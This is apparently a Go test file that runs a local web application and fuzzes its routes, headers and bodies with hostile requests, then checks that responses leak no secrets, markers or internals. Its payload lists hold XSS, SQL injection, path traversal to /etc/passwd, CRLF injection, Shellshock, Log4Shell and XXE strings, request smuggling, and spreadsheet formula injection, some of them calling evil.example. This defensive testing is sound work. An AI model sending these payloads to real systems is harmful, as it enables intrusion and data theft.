package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gofiber/fiber/v2"

	"cittamedie/api"
	"cittamedie/data"
	"cittamedie/data/store"
)

// What hostile requests carry, and must not come back as it is.
const (
	marker  = "<c3xss" // begins an element that nothing of ours writes
	script  = `"'>` + marker + ` onload=alert(1)></script>`
	evil    = "evil.example"
	secret  = "nobody may read this 7f3a" // stands in files outside the folders that are served
	timeout = 20 * time.Second
)

// target is the whole application on an address of this machine, over a release
// whose areas have hostile names.
type target struct {
	*server
	app     *fiber.App
	address string
	log     *strings.Builder
	spec    spec
}

// spec is what the tests read of the description of the API.
type spec struct {
	Paths map[string]map[string]struct {
		Description string
		Parameters  []struct{ Name, In string }
		Responses   map[string]any
	}
}

// hostileNames are names that mean something to a browser or a spreadsheet, by area.
var hostileNames = map[data.AreaCode]string{
	"052032": `</script><img src=x onerror=alert(1)>`, "052033": `"'><svg/onload=alert(2)>`, "052012": `=HYPERLINK("http://` + evil + `";"x")`,
	"052001": "+39 0577", "052002": "-2+3", "052003": "@SUM(1+1)", "052004": "\tTab", "052005": "\rRitorno", "052006": `x;=1+1`, "052007": `"=1+1"`, "052": `=cmd|' /C calc'!A0`,
}

// attacked returns the application, served until the test ends.
func attacked(t *testing.T) *target {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "data")
	if err := os.CopyFS(dir, os.DirFS(seeded(t))); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{filepath.Join(filepath.Dir(dir), "secret.csv.gz"), filepath.Join(dir, "secret.csv.gz")} {
		if err := os.WriteFile(name, []byte(secret), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	renameAreas(t, dir)
	ctx, cancel := context.WithCancel(t.Context())
	said := &strings.Builder{}
	s := &server{terminal: &terminal{ctx: ctx, cli: &cli{}, config: defaultConfig(), stdout: io.Discard, stderr: io.Discard}}
	s.log = slog.New(slog.NewTextHandler(&locked{to: said}, &slog.HandlerOptions{Level: slog.LevelWarn}))
	s.config.Dir, s.config.BaseURL = dir, "https://dati.example.org"
	var err error
	if s.folder, err = s.openFolder(); err != nil {
		t.Fatal(err)
	}
	if err := s.prepare(); err != nil {
		t.Fatal(err)
	}
	s.bulk = api.NewBulk(filepath.Join(dir, "bulk"), 0, s.log)
	app, err := s.app(api.NewMetrics(&s.holder, time.Now))
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var running sync.WaitGroup
	running.Go(func() { s.bulk.Run(ctx, &s.holder) })
	running.Go(func() { app.Listener(l) })
	t.Cleanup(func() {
		app.ShutdownWithTimeout(time.Second)
		cancel()
		running.Wait()
		s.holder.Current().Close()
	})
	a := &target{server: s, app: app, address: l.Addr().String(), log: said}
	index := filepath.Join(dir, "bulk", s.holder.Current().Release().ID, "index.json")
	for start := time.Now(); ; time.Sleep(50 * time.Millisecond) {
		if _, err := os.Stat(index); err == nil {
			break
		} else if time.Since(start) > timeout {
			t.Fatal("no bulk files")
		}
	}
	if err := json.Unmarshal([]byte(a.get(t, "/openapi.json").body), &a.spec); err != nil || len(a.spec.Paths) < 19 {
		t.Fatalf("%d paths are described: %v", len(a.spec.Paths), err)
	}
	return a
}

// locked is a writer that several may use.
type locked struct {
	mu sync.Mutex
	to io.Writer
}

func (l *locked) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.to.Write(b)
}

// renameAreas publishes a release in which some areas have hostile names.
func renameAreas(t *testing.T, dir string) {
	t.Helper()
	f, err := store.OpenFolder(dir)
	if err != nil {
		t.Fatal(err)
	}
	id, err := f.CurrentID()
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	was, err := f.Open(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	areas, err := was.Areas(ctx)
	if err != nil {
		t.Fatal(err)
	}
	was.Close()
	renamed := 0
	for i, a := range areas {
		if name, ok := hostileNames[a.Code]; ok {
			areas[i].Name = name
			renamed++
		}
	}
	draft, err := f.Begin(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer draft.Discard()
	if _, err := draft.ReplaceAreas(ctx, areas); err != nil || renamed != len(hostileNames) {
		t.Fatalf("%d areas renamed, %v", renamed, err)
	}
	if _, err := draft.Publish(ctx, was.Reference, was.Methods, was.Created.Add(time.Second)); err != nil {
		t.Fatal(err)
	}
}

// request is one request as it is written on the wire.
type request struct {
	method, target string
	headers        []string // lines
	body           string
	raw            string // in place of all of it
}

func (q request) String() string {
	return fmt.Sprintf("%s %.120s %.80q %.60q", q.method, q.target, q.headers, q.body+q.raw)
}

func (q request) wire() string {
	if q.raw != "" {
		return q.raw
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", q.method, q.target)
	if !slices.ContainsFunc(q.headers, func(h string) bool { return strings.HasPrefix(h, "Host:") }) {
		b.WriteString("Host: dati.example.org\r\n")
	}
	for _, h := range append(slices.Clone(q.headers), "Connection: close") {
		b.WriteString(h + "\r\n")
	}
	if q.body != "" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(q.body))
	}
	b.WriteString("\r\n" + q.body)
	return b.String()
}

// response is what came back: status 0 when the connection was closed without an
// answer.
type response struct {
	status int
	header http.Header
	body   string
}

// send writes a request as it is and reads one answer.
func (a *target) send(q request) response {
	conn, err := net.DialTimeout("tcp", a.address, timeout)
	if err != nil {
		return response{}
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(timeout))
	go io.WriteString(conn, q.wire()) // a server may answer before it has read all
	r, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: q.method})
	if err != nil {
		return response{}
	}
	defer r.Body.Close()
	body, _ := io.ReadAll(r.Body)
	return response{r.StatusCode, r.Header, string(body)}
}

// get asks for an address, with header lines.
func (a *target) get(t *testing.T, address string, headers ...string) response {
	t.Helper()
	r := a.send(request{method: "GET", target: address, headers: headers})
	if r.status == 0 {
		t.Fatalf("%s was not answered", address)
	}
	return r
}

var (
	hole    = regexp.MustCompile(`[:{](\w+)}?`)
	example = regexp.MustCompile("Example: `GET ([^`]+)`")
	asked   = regexp.MustCompile(`(?:param|list|Query)\("(\w+)"`)
)

// fillings are what the holes of paths stand for in addresses that are answered.
var fillings = map[string]string{"file": "all.csv.gz", "table": "comuni"}

// addresses returns, for each route of the live tables, an address that has
// something, and the routes they are of.
func (a *target) addresses() map[string]string {
	out := map[string]string{}
	for _, r := range a.app.GetRoutes(true) {
		if r.Method != http.MethodGet && r.Method != http.MethodPost {
			continue
		}
		out[r.Path] = hole.ReplaceAllStringFunc(r.Path, func(h string) string {
			switch name := strings.Trim(h, ":{}"); {
			case strings.HasPrefix(r.Path, "/docs/"):
				return "docs.js"
			case fillings[name] != "":
				return fillings[name]
			case strings.HasPrefix(r.Path, "/indicatori/"), strings.Contains(r.Path, "/indicators/"):
				return "DEM03"
			}
			return "052032"
		})
	}
	for path, methods := range a.spec.Paths {
		if m := example.FindStringSubmatch(methods["get"].Description); m != nil {
			out[strings.NewReplacer("{", ":", "}", "").Replace(path)] = m[1]
		}
	}
	out["/mappa"] = "/mappa?indicator=DEM03&level=municipality&parent=052"
	out["/static"] = "/static/dist/app.css"
	return out
}

// parameters returns the parameters of a route: those that are described or, of a
// page, all that the pages read.
func (a *target) parameters(t *testing.T, route string) []string {
	t.Helper()
	names := map[string]bool{"lang": true, "format": true, "release": true, "limit": true}
	if op, ok := a.spec.Paths[regexp.MustCompile(`:(\w+)`).ReplaceAllString(route, "{$1}")]; ok {
		for _, p := range op["get"].Parameters {
			if p.In == "query" {
				names[p.Name] = true
			}
		}
		return slices.Sorted(maps.Keys(names))
	}
	sources, err := filepath.Glob(filepath.Join("..", "..", "dashboards", "*.go"))
	if err != nil || len(sources) == 0 {
		t.Fatalf("no sources of the pages: %v", err)
	}
	for _, name := range sources {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range asked.FindAllStringSubmatch(string(text), -1) {
			names[m[1]] = true
		}
	}
	return slices.Sorted(maps.Keys(names))
}

// values are wrong for every parameter, or odd.
var values = []string{
	script, "' OR 1=1--", "1; DROP TABLE figure; --", "../../../../etc/passwd", "..\\..\\secret.csv.gz", "\x00", "a\r\nX-Injected: 1", "\xff\xfe", "-1", "0", "1e9", "1000000000000000000000000000000", "NaN", "9223372036854775808",
	"true", "null", "[]", "{}", "١٢٣", "＜c3xss＞", "\u202e052", "=1+1", "${7*7}{{7*7}}", strings.Repeat("a", 300), strings.Repeat("052,", 120), "*", ",", "%", "2022-13-45",
}

// queries returns requests whose queries are wrong.
func (a *target) queries(t *testing.T, route, address string) []request {
	t.Helper()
	var out []request
	path, query, _ := strings.Cut(address, "?")
	names := a.parameters(t, route)
	for n, name := range names {
		for k, v := range values {
			if !strings.HasPrefix(route, "/api/") && (n+k)%4 != 0 { // pages read every parameter in the same way
				continue
			}
			kept, _ := url.ParseQuery(query)
			kept.Del(name)
			q := kept.Encode()
			if q != "" {
				q += "&"
			}
			out = append(out, request{method: "GET", target: path + "?" + q + name + "=" + url.QueryEscape(v)})
		}
		out = append(out, request{method: "GET", target: path + "?" + name + "=1&" + name + "=2"}, request{method: "GET", target: path + "?" + name + "[]=1"}, request{method: "GET", target: path + "?" + name + "="})
	}
	for _, q := range []string{
		"unknown=1", url.QueryEscape(script) + "=1", "utm_source=mail", "callback=" + marker, "=x", "&&&", "a[]=1&a[]=2", "a%5B%5D=1", "%00=1", "%zz", "%", "%ff=%fe", "x=%c3%28", "x=%ed%a0%80", "a;b=1", "x=%0d%0aX-Injected:%201",
		strings.Repeat("x=1&", 40), strings.Repeat("&", 5000), "x=" + strings.Repeat("a", 9000), "?" + script, "__proto__[x]=1", "x=1#" + "fragment",
	} {
		out = append(out, request{method: "GET", target: path + "?" + q})
	}
	return out
}

// paths returns requests whose paths lead astray.
func paths(address string) []request {
	path, _, _ := strings.Cut(address, "?")
	base := path[:strings.LastIndexByte(path, '/')+1]
	var out []request
	for _, p := range []string{
		path + "/", path + "//", "/" + path, path + ";x=1", path + "%00", path + "%0d%0aX-Injected:%201", path + ".json", path + "%20", path + "/.", path + "/..", path + "/../../../../etc/passwd", path + "/%2e%2e/%2e%2e/secret.csv.gz",
		base + "..%2f..%2f..%2fetc%2fpasswd", base + "%252e%252e%252fsecret.csv.gz", base + "..%5c..%5csecret.csv.gz", base + "%2fetc%2fpasswd", base + "..%c0%afsecret.csv.gz", base + "secret.csv.gz%00.csv.gz", base + "%ff%fe", base + "....//....//secret.csv.gz",
		base + url.PathEscape(script), base + strings.Repeat("a", 200), base + strings.Repeat("a", 9000), base + strings.Repeat("a/", 1000), base + "NUL", base + "C:%5cboot.ini", strings.ToUpper(path), base + "%u2215", base + "．．／secret", "http://" + evil + path, "*",
	} {
		out = append(out, request{method: "GET", target: p})
	}
	return out
}

// headerLines are headers that a client may send to any address.
var headerLines = [][]string{
	{"Host: " + evil}, {"Host: dati.example.org:99999"}, {"Host: \"><script>"}, {"Host: dati.example.org", "Host: " + evil}, {"Host:"}, {"X-Forwarded-Host: " + evil}, {"X-Forwarded-Proto: javascript"}, {"X-Forwarded-Prefix: /" + evil}, {"X-Forwarded-For: " + strings.Repeat("1.1.1.1,", 400)},
	{"Forwarded: for=1.1.1.1;host=" + evil}, {"X-Original-URL: /admin"}, {"X-Rewrite-URL: /admin"}, {"X-HTTP-Method-Override: DELETE"}, {"X-HTTP-Method: PUT"}, {"X-Request-Id: " + script},
	{"Accept: " + strings.Repeat("text/csv;q=0.1,", 300)}, {"Accept: " + script}, {"Accept: */*;q=zzz"}, {"Accept: application/json;q=0, */*;q=0"}, {"Accept: ;;;,,,"}, {"Accept: text/html"}, {"Accept: image/png"},
	{"Accept-Encoding: " + strings.Repeat("br,", 1500)}, {"Accept-Encoding: identity;q=0, *;q=0"}, {"Accept-Encoding: " + script}, {"Accept-Encoding: gzip;q=NaN"}, {"Accept-Language: " + strings.Repeat("xx,", 1500)}, {"Accept-Language: " + script}, {"Accept-Language: ../../it"},
	{"Range: bytes=0-0,1-1,2-2"}, {"Range: bytes=" + strings.Repeat("0-,", 1000)}, {"Range: bytes=-"}, {"Range: bytes=99999999999999999999-"}, {"Range: lines=1-2"}, {"Range: bytes=5-2"}, {"If-Range: \"x\"", "Range: bytes=0-1"},
	{"If-None-Match: " + strings.Repeat(`"x",`, 2000)}, {"If-None-Match: \""}, {"If-Modified-Since: yesterday"}, {"If-Match: \"x\""}, {"If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT"},
	{"Cookie: " + strings.Repeat("a=b; ", 900)}, {"Authorization: Basic " + strings.Repeat("A", 3000)}, {"Origin: https://" + evil}, {"Origin: null"}, {"Referer: https://" + evil + "/" + script}, {"User-Agent: () { :;}; /bin/cat /etc/passwd"}, {"User-Agent: ${jndi:ldap://" + evil + "/a}"},
	{"Content-Type: application/xml"}, {"Content-Encoding: gzip"}, {"Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"}, {"Expect: 200-ok"}, {"TE: trailers"}, {"Trailer: X"}, {"X: " + strings.Repeat("a", 20000)}, slices.Repeat([]string{"X-Many: 1"}, 400),
	{"X-Bad: a\x00b"}, {"X-Bad: a\rX-Injected: 1"}, {"Bad Name: 1"}, {": 1"},
}

// bodies are sent to every address with every method that may have one.
var bodies = []request{
	{method: "GET", body: "limit=1&q=fat"}, {method: "POST", body: "{}", headers: []string{"Content-Type: application/json"}}, {method: "POST", body: `{"codes":["052032","` + marker + `"]}`, headers: []string{"Content-Type: application/json"}},
	{method: "POST", body: strings.Repeat("[", 20000), headers: []string{"Content-Type: application/json"}}, {method: "POST", body: "a=b", headers: []string{"Content-Type: application/x-www-form-urlencoded", "X-HTTP-Method-Override: GET"}},
	{method: "POST", body: strings.Repeat("052032\r\n", 9000), headers: []string{"Content-Type: text/csv"}}, {method: "POST", body: "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x\"\r\n\r\n1\r\n--x--\r\n", headers: []string{"Content-Type: multipart/form-data; boundary=x"}},
	{method: "POST", body: "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", headers: []string{"Content-Type: application/xml"}}, {method: "POST", body: "\x00\xff\xfe", headers: []string{"Content-Type: text/csv; charset=\"" + marker + "\""}},
	{method: "PUT", body: "x"}, {method: "PATCH", body: "x"}, {method: "DELETE"}, {method: "TRACE", headers: []string{"X-Secret: " + marker}}, {method: "PROPFIND", headers: []string{"Depth: infinity"}}, {method: "MKCOL"}, {method: "FOO"}, {method: "get"}, {method: "OPTIONS"}, {method: "HEAD"},
}

// broken are requests that are no HTTP, or two requests in one.
var broken = []request{
	{raw: "GET / HTTP/1.1\r\n\r\n"}, {raw: "GET /\r\n\r\n"}, {raw: "\r\n\r\n\r\n"}, {raw: "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"}, {raw: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"}, {raw: "GET / HTTP/9.9\r\nHost: x\r\nConnection: close\r\n\r\n"},
	{raw: "GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n"}, {raw: "GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n"}, {raw: "POST /api/v1/areas HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\nConnection: close\r\n\r\nabcdef"},
	{raw: "POST /api/v1/areas HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\nabc\r\n0\r\n\r\n"}, {raw: "POST /api/v1/areas HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\nContent-Length: 3\r\nConnection: close\r\n\r\nabc"},
	{raw: "GET / HTTP/1.1\nHost: x\nConnection: close\n\n"}, {raw: "GET / HTTP/1.1\r\nHost: x\r\n folded: 1\r\nConnection: close\r\n\r\n"}, {raw: "GET\t/\tHTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"}, {raw: "GET / HTTP/1.1 \r\nHost: x\r\nConnection: close\r\n\r\n"}, {raw: "GET  / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"},
	{raw: "POST /api/v1/areas HTTP/1.1\r\nHost: x\r\nContent-Length: 200000\r\nConnection: close\r\n\r\n" + strings.Repeat("a", 200000)}, {raw: strings.Repeat("A", 70000) + "\r\n\r\n"}, {raw: "GET /" + strings.Repeat("a", 65536) + " HTTP/1.1\r\nHost: x\r\n\r\n"},
}

// generate returns every hostile request over every route of the application.
func (a *target) generate(t *testing.T) []request {
	t.Helper()
	out := slices.Clone(broken)
	routes := a.addresses()
	for _, route := range slices.Sorted(maps.Keys(routes)) {
		address := routes[route]
		out = append(append(out, a.queries(t, route, address)...), paths(address)...)
		for _, lines := range headerLines {
			out = append(out, request{method: "GET", target: address, headers: lines})
		}
		for _, b := range bodies {
			b.target = address
			out = append(out, b)
		}
	}
	return out
}

// checkAnswer reports what is wrong with the answer to a hostile request.
func (a *target) checkAnswer(q request, r response) (faults []string) {
	say := func(format string, args ...any) { faults = append(faults, fmt.Sprintf(format, args...)) }
	if r.status >= 500 {
		say("status %d", r.status)
	}
	kind, _, _ := strings.Cut(r.header.Get("Content-Type"), ";")
	never := []string{marker, secret, "root:x:0", a.config.Dir, "goroutine ", ".go:", "duckdb", "Parser Error", "Binder Error"}
	if kind != "text/csv" { // a table for programs has names as they are
		never = append(never, "<img src=x", "<svg/onload")
	}
	for _, text := range never {
		if strings.Contains(r.body, text) {
			say("the body has %q", text)
		}
	}
	if q.method == "TRACE" && strings.Contains(r.body, "X-Secret") {
		say("the request is echoed")
	}
	for name, lines := range r.header {
		for _, line := range lines {
			if strings.EqualFold(name, "X-Injected") || strings.EqualFold(name, "Set-Cookie") || strings.Contains(line, marker) || strings.Contains(line, evil) || strings.ContainsAny(line, "\r\n\x00") {
				say("header %s: %.80q", name, line)
			}
		}
	}
	if strings.Contains(r.body, evil) && !strings.Contains(r.body, `HYPERLINK(`) && !strings.HasPrefix(q.target, "http://") {
		say("the body names %s", evil)
	}
	if r.status < 400 || q.method == "HEAD" {
		return faults
	}
	if kind != "application/problem+json" && kind != "text/html" {
		say("a refusal as %q: %.100s", kind, r.body)
	}
	if kind == "application/problem+json" {
		var p api.Problem
		if err := json.Unmarshal([]byte(r.body), &p); err != nil || p.Status != r.status || p.Type == "" || p.Title == "" || p.RequestID == "" {
			say("an incomplete problem: %s", r.body)
		}
	}
	if got := r.header.Get("X-Content-Type-Options"); got != "nosniff" {
		say("X-Content-Type-Options %q", got)
	}
	return faults
}

// thinned is how many requests are generated for one that is sent, unless HOSTILE
// is all: two minutes' worth otherwise.
const thinned = 4

// TestHostileRequests sends hostile requests over every route of the live route
// tables, and counts the answers by status.
func TestHostileRequests(t *testing.T) {
	a := attacked(t)
	all := a.generate(t)
	if len(all) < 1500*thinned {
		t.Fatalf("only %d requests", len(all))
	}
	counts, next, bad := map[int]int{}, make(chan request), 0
	var mu sync.Mutex
	var workers sync.WaitGroup
	for range 8 {
		workers.Go(func() {
			for q := range next {
				r := a.send(q)
				faults := a.checkAnswer(q, r)
				mu.Lock()
				counts[r.status]++
				if len(faults) > 0 {
					if bad++; bad <= 40 {
						t.Errorf("%v: %s", q, strings.Join(faults, "; "))
					}
				}
				mu.Unlock()
			}
		})
	}
	for i, q := range all {
		if i%thinned == 0 || os.Getenv("HOSTILE") == "all" {
			next <- q
		}
	}
	close(next)
	workers.Wait()
	if bad > 0 {
		t.Errorf("%d of %d requests are answered wrongly", bad, len(all))
	}
	if counts[0] > len(broken) {
		t.Errorf("%d requests were not answered", counts[0])
	}
	if r := a.get(t, "/readyz"); r.status != 200 {
		t.Errorf("afterwards /readyz = %d", r.status)
	}
	if strings.Contains(a.log.String(), "level=ERROR") {
		t.Errorf("the log has errors:\n%.2000s", a.log.String())
	}
	sent := 0
	for _, n := range counts {
		sent += n
	}
	t.Logf("%d hostile requests over %d routes by status (0 is a connection closed without answer): %v", sent, len(a.addresses()), counts)
}
